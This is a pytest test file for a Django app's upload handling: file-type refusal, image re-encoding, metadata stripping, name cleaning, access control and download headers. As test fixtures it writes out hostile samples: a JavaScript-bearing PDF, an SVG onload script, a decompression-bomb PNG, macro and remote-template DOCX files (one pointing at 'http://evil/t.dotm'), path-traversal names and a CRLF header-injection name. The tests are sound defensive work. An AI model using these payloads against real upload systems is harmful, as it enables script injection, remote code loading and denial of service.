"""Uploads (SAFETY.md 4.3): what is kept, what is refused, and who gets it."""

from __future__ import annotations

import datetime as dt
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from activities import attachment_services as services
from activities.attachment_files import clean_name, prepare
from activities.event_models import ActivityState
from activities.models import Attachment, LogEntry
from pairing_portal.common.problems import Refused
from tests.activities.event_crew import act, published

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<</Encrypt 2 0 R>>\n%%EOF\n"
GPS = 0x8825


def picture(kind: str = "JPEG", mode: str = "RGB", size: tuple[int, int] = (40, 20), **more: object) -> bytes:
    kept = io.BytesIO()
    Image.new(mode, size, "red" if mode in ("RGB", "RGBA") else 0).save(kept, kind, **more)
    return kept.getvalue()


def packed(**parts: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return kept.getvalue()


def docx(**more: bytes) -> bytes:
    return packed(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", **more})


@pytest.fixture(autouse=True)
def own_folder(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def entry(cast) -> LogEntry:
    now = timezone.now()
    return LogEntry.objects.create(
        person=cast.person("er_member"), on=dt.date(2026, 10, 27), minutes=30, purpose="self_study", summary="读书",
        created_at=now, submitted_at=now,
    )  # fmt: skip


def files_in(folder: Path) -> list[Path]:
    return sorted(path for path in folder.rglob("*") if path.is_file()) if folder.exists() else []


def send(client, target, name: str, data: bytes, address: str = "log_attach"):
    return client.post(reverse(address, args=[target.pk]), {"file": SimpleUploadedFile(name, data)})


def refused(name: str, data: bytes) -> str:
    with pytest.raises(Refused) as caught:
        prepare(name, data)
    return caught.value.text


# --- What is refused ------------------------------------------------------------------------------

DAMAGED = "该图片已损坏或不是图片。请重新拍摄，或另选一张。"
OTHER = "只能上传图片（JPEG、PNG、WebP）、PDF、DOCX 和 XLSX 文件。"


@pytest.mark.parametrize(
    "name",
    ["a.svg", "a.php", "a.py", "a.exe", "a.js", "a.bat", "a.lnk", "a.html", "a.xml", "a.docm", "a.jpg.exe", "a", "", "..", ".htaccess", "a.exe. "],
)  # fmt: skip
def test_other_kinds_are_refused_by_name(name):
    assert refused(name, picture()) == OTHER


@pytest.mark.parametrize("name", ["a.exe\x00.jpg", "a.jpg ", "a.jpg.", "../../x.jpg", "C:\\temp\\x.jpg", "x.JPG"])
def test_odd_names_of_pictures_are_harmless(name):
    assert prepare(name, picture()).extension == "jpg"


def test_an_empty_file_is_refused():
    assert refused("a.jpg", b"") == "文件是空的（0 字节）。请重新选择。"


def test_a_file_over_the_limit_is_refused(settings):
    settings.MAX_UPLOAD_MB = 1
    assert refused("a.pdf", PDF + b" " * 1024 * 1024) == "文件大于 1 MB。请选择小一些的文件。"


def wrong_checksum() -> bytes:
    data = bytearray(picture("PNG"))
    at = data.index(b"IDAT")
    (length,) = struct.unpack(">I", data[at - 4 : at])
    data[at + 4 + length] ^= 0xFF
    return bytes(data)


def bomb() -> bytes:
    """A PNG of 100 million dots in a few hundred bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.jpg", picture(size=(400, 400))[:900], DAMAGED),
        ("a.png", wrong_checksum(), DAMAGED),
        ("a.jpg", PDF, DAMAGED),
        ("a.jpg", picture("GIF"), DAMAGED),
        ("a.jpg", b"<svg onload=alert(1)>", DAMAGED),
        ("a.png", bomb(), "该图片超过 2500 万像素。请先缩小。"),
        ("a.pdf", picture("PNG"), "该文件不是完整的 PDF 文件，与其名称不符。请重新选择。"),
        ("a.pdf", PDF[:-6], "该文件不是完整的 PDF 文件，与其名称不符。请重新选择。"),
        ("a.docx", packed(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}), "该文件不是 DOCX 文件，与其名称不符。请重新保存后再选择。"),
        ("a.docx", docx(**{"word/vbaProject.bin": b"x"}), "该文件含有宏。请另存为不含宏的文件后再选择。"),
        ("a.docx", docx(**{"word/big.xml": b"\0" * 250_000_000}), "该文件解压后远大于其本身，或含有其他压缩文件。请改为上传 PDF。"),
        ("a.docx", docx(**{"word/a.zip": b"PK\x03\x04"}), "该文件解压后远大于其本身，或含有其他压缩文件。请改为上传 PDF。"),
        ("a.docx", docx()[:-30], "该 DOCX 文件已损坏。请打开后重新保存，再选择新文件。"),
        ("a.docx", docx(**{"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'}), "该文件打开时会从别处加载内容。请删除这些内容后重新保存。"),
    ],
)  # fmt: skip
def test_what_is_not_what_it_says_is_refused(name, data, words):
    assert refused(name, data) == words


# --- What is kept ----------------------------------------------------------------------------------


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def test_pictures_are_drawn_anew_upright_and_without_position():
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by 90 degrees
    exif.get_ifd(GPS)[1] = "N"
    exif[0x010E] = "secret place"
    kept = opened(prepare("a.jpg", picture(exif=exif.tobytes(), comment=b"<script>")).data)
    assert (kept.format, kept.mode, kept.size) == ("JPEG", "RGB", (20, 40))
    assert (dict(kept.getexif()), dict(kept.getexif().get_ifd(GPS))) == ({}, {})
    assert "comment" not in kept.info


@pytest.mark.parametrize(
    ("data", "kind", "mode"),
    [
        (picture("JPEG", "CMYK"), "JPEG", "RGB"),
        (picture("PNG", "I;16"), "JPEG", "RGB"),
        (picture("PNG", "RGBA"), "PNG", "RGBA"),
        (picture("WEBP"), "JPEG", "RGB"),
        (picture("PNG", "P"), "JPEG", "RGB"),
    ],
)
def test_every_kind_of_picture_becomes_a_plain_one(data, kind, mode):
    kept = opened(prepare("a.png", data).data)
    assert (kept.format, kept.mode) == (kind, mode)


def test_sixteen_bits_keep_their_shade():
    kept = io.BytesIO()
    Image.new("I;16", (8, 8), 0x8000).save(kept, "PNG")
    assert opened(prepare("a.png", kept.getvalue()).data).getpixel((4, 4)) == (128, 128, 128)


def test_a_picture_that_is_a_page_as_well_is_a_picture_only():
    assert b"<script>" not in prepare("a.jpg", picture() + b"<html><script>alert(1)</script>").data


def test_large_pictures_are_made_smaller():
    assert opened(prepare("a.jpg", picture(size=(4000, 3000))).data).size == (2560, 1920)


def test_documents_stay_as_they_are():
    for name, data in (("a.pdf", PDF), ("b.docx", docx())):
        assert prepare(name, data).data == data


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../合影.jpg", "合影.jpg"), ("a\r\nSet-Cookie: x.jpg", "aSet-Cookie: x.jpg"), ("合影\u202egpj.exe.jpg", "合影gpj.exe.jpg"),
        ("  a  b .jpg", "a b .jpg"), ("C:\\x\\y.png.", "y.png"),
    ],
)  # fmt: skip
def test_names_for_people_have_no_hidden_characters(given, shown):
    assert clean_name(given) == shown


# --- Through the pages -----------------------------------------------------------------------------


def test_the_author_attaches_and_removes(entry, sign_in, own_folder, django_capture_on_commit_callbacks):
    client = sign_in("er_member")
    answer = send(client, entry, "../../合影.png", picture("PNG"))
    assert (answer.status_code, answer.url) == (302, f"/log/{entry.pk}/#attachments")
    row = Attachment.objects.get()
    assert (row.name, row.kind, row.log_entry_id, row.uploaded_by) == ("合影.jpg", "image", entry.pk, entry.person.user)
    assert re.fullmatch(r"attachments/2026/10/[0-9a-f]{32}\.jpg", row.file.name)
    assert [path.stat().st_size for path in files_in(own_folder)] == [row.size]
    html = client.get(f"/log/{entry.pk}/").content.decode()
    assert f'<img src="/attachments/{row.pk}/"' in html
    assert "capture" not in html
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("attachment_remove", args=[row.pk]))
    assert (Attachment.objects.count(), files_in(own_folder)) == (0, [])


def test_the_same_file_twice_is_kept_twice_and_a_seventh_is_refused(entry, sign_in):
    client = sign_in("er_member")
    for _time in range(6):
        send(client, entry, "a.jpg", picture())
    assert len(set(Attachment.objects.values_list("file", flat=True))) == 6
    answer = send(client, entry, "a.jpg", picture())
    assert answer.status_code == 400
    assert "已有 6 个文件，达到上限。请先删除一个。" in answer.content.decode()
    assert Attachment.objects.count() == 6


def test_refused_files_leave_nothing_behind(entry, sign_in, own_folder):
    client = sign_in("er_member")
    assert send(client, entry, "a.svg", b"<svg/>").status_code == 400
    assert send(client, entry, "a.jpg", b"").status_code == 400
    assert client.post(reverse("log_attach", args=[entry.pk])).status_code == 400
    assert (Attachment.objects.count(), files_in(own_folder)) == (0, [])


def test_a_confirmed_entry_is_closed(cast, entry, sign_in, own_folder):
    client = sign_in("er_member")
    send(client, entry, "a.jpg", picture())
    entry.state, entry.confirmed_by, entry.confirmed_at = "confirmed", cast.user("er_secretary"), timezone.now()
    entry.save()
    assert send(client, entry, "b.jpg", picture()).status_code == 409
    row = Attachment.objects.get()
    client.post(reverse("attachment_remove", args=[row.pk]))
    assert (Attachment.objects.count(), len(files_in(own_folder))) == (1, 1)
    html = client.get(f"/log/{entry.pk}/").content.decode()
    assert ("attachment-add" in html, "attachment_remove" in html or "/remove/" in html) == (False, False)


def test_others_do_not_attach_nor_see(entry, sign_in):
    send(sign_in("er_member"), entry, "a.jpg", picture())
    row = Attachment.objects.get()
    address = reverse("attachment", args=[row.pk])
    assert sign_in("er_secretary").get(address).status_code == 200
    assert send(sign_in("er_secretary"), entry, "b.jpg", picture()).status_code == 403
    assert sign_in("er_secretary").post(reverse("attachment_remove", args=[row.pk])).status_code == 403
    for stranger in ("liu_secretary", "san_member", "stranger"):
        client = sign_in(stranger)
        assert (client.get(address).status_code, send(client, entry, "b.jpg", picture()).status_code) == (404, 404)
        assert client.post(reverse("attachment_remove", args=[row.pk])).status_code == 404
    assert Attachment.objects.count() == 1


def test_nobody_signed_in_is_asked_to_sign_in(client, entry, sign_in):
    send(sign_in("er_member"), entry, "a.jpg", picture())
    address = reverse("attachment", args=[Attachment.objects.get().pk])
    assert client.get(address).url == f"/accounts/login/?next={address}"
    assert client.get("/media/" + Attachment.objects.get().file.name).status_code in (302, 404)


def test_documents_are_downloaded_in_a_sandbox(entry, sign_in):
    client = sign_in("er_member")
    send(client, entry, "总结; x=1.pdf", PDF)
    Attachment.objects.update(name='总结"; x=1.pdf')
    answer = client.get(reverse("attachment", args=[Attachment.objects.get().pk]))
    assert b"".join(answer.streaming_content) == PDF
    assert answer.headers["Content-Type"] == "application/pdf"
    name = "%E6%80%BB%E7%BB%93%22%3B%20x%3D1.pdf"
    assert answer.headers["Content-Disposition"] == f"attachment; filename*=utf-8''{name}"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; style-src 'unsafe-inline'; sandbox"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "private, no-store"


def test_a_proxy_sends_the_file_where_there_is_one(entry, sign_in, settings):
    client = sign_in("er_member")
    send(client, entry, "a.jpg", picture())
    row = Attachment.objects.get()
    settings.PROTECTED_MEDIA_PREFIX = "/protected/"
    answer = client.get(reverse("attachment", args=[row.pk]))
    assert (answer.content, answer.headers["X-Accel-Redirect"]) == (b"", f"/protected/{row.file.name}")
    assert answer.headers["Content-Disposition"] == 'inline; filename="a.jpg"'


def test_a_file_that_vanished_is_404(entry, sign_in, own_folder):
    client = sign_in("er_member")
    send(client, entry, "a.jpg", picture())
    files_in(own_folder)[0].unlink()
    assert client.get(reverse("attachment", args=[Attachment.objects.get().pk])).status_code == 404


# --- Files and rows stay together ------------------------------------------------------------------


def test_a_failed_save_leaves_no_file(cast, entry, own_folder, monkeypatch):
    def fail(*_args, **_kwargs):
        raise RuntimeError("disk")

    monkeypatch.setattr(Attachment, "save", fail)
    with pytest.raises(RuntimeError):
        services.add_attachment(
            target=entry, file=SimpleUploadedFile("a.jpg", picture()), **act(cast, "er_member")
        )  # fmt: skip
    assert files_in(own_folder) == []


def test_files_go_with_the_entry(entry, sign_in, own_folder, django_capture_on_commit_callbacks):
    client = sign_in("er_member")
    send(client, entry, "a.jpg", picture())
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("log_withdraw", args=[entry.pk]))
    assert (LogEntry.objects.filter(pk=entry.pk).exists(), files_in(own_folder)) == (False, [])


def test_the_space_of_a_branch_has_an_end(cast, entry, sign_in, monkeypatch):
    monkeypatch.setattr(services, "SPACE_AT_MOST", 2000)
    client = sign_in("er_member")
    send(client, entry, "a.pdf", PDF + b" " * 1500 + b"%%EOF")
    answer = send(client, entry, "b.pdf", PDF + b" " * 1500 + b"%%EOF")
    assert answer.status_code == 400
    assert "空间不足" in answer.content.decode()
    activity = published(cast)
    assert send(sign_in("er_secretary"), activity, "c.pdf", PDF + b" " * 1500, "activity_attach").status_code == 400
    assert Attachment.objects.count() == 1


def test_sixty_files_an_hour(cast, entry, monkeypatch):
    for _time in range(60):
        assert services.take_turn(limit=services.UPLOADS, user=cast.user("er_member"), now=timezone.now()) == 0
    with pytest.raises(Refused) as caught:
        services.add_attachment(
            target=entry, file=SimpleUploadedFile("a.jpg", picture()), **act(cast, "er_member")
        )  # fmt: skip
    assert caught.value.text == "您一小时内已上传 60 个文件，达到上限。请稍后再试。"


# --- Activities ------------------------------------------------------------------------------------


def test_hosts_attach_to_an_activity_and_those_invited_see_it(cast, sign_in):
    activity = published(cast)
    assert send(sign_in("er_deputy"), activity, "签到表.pdf", PDF, "activity_attach").status_code == 302
    assert send(sign_in("er_member"), activity, "b.pdf", PDF, "activity_attach").status_code == 403
    assert send(sign_in("liu_secretary"), activity, "b.pdf", PDF, "activity_attach").status_code == 404
    row = Attachment.objects.get()
    assert sign_in("er_member").get(reverse("attachment", args=[row.pk])).status_code == 200
    html = sign_in("er_member").get(reverse("activity", args=[activity.pk])).content.decode()
    assert ("签到表.pdf" in html, "attachment-add" in html) == (True, False)


def test_what_proves_a_finished_activity_stays(cast, sign_in):
    activity = published(cast)
    client = sign_in("er_deputy")
    send(client, activity, "a.pdf", PDF, "activity_attach")
    activity.state, activity.finished_by, activity.finished_at = (
        ActivityState.FINISHED,
        cast.user("er_secretary"),
        timezone.now(),
    )
    activity.counted_minutes = 60
    activity.save()
    client.post(reverse("attachment_remove", args=[Attachment.objects.get().pk]))
    assert send(client, activity, "b.pdf", PDF, "activity_attach").status_code == 302
    assert Attachment.objects.count() == 2
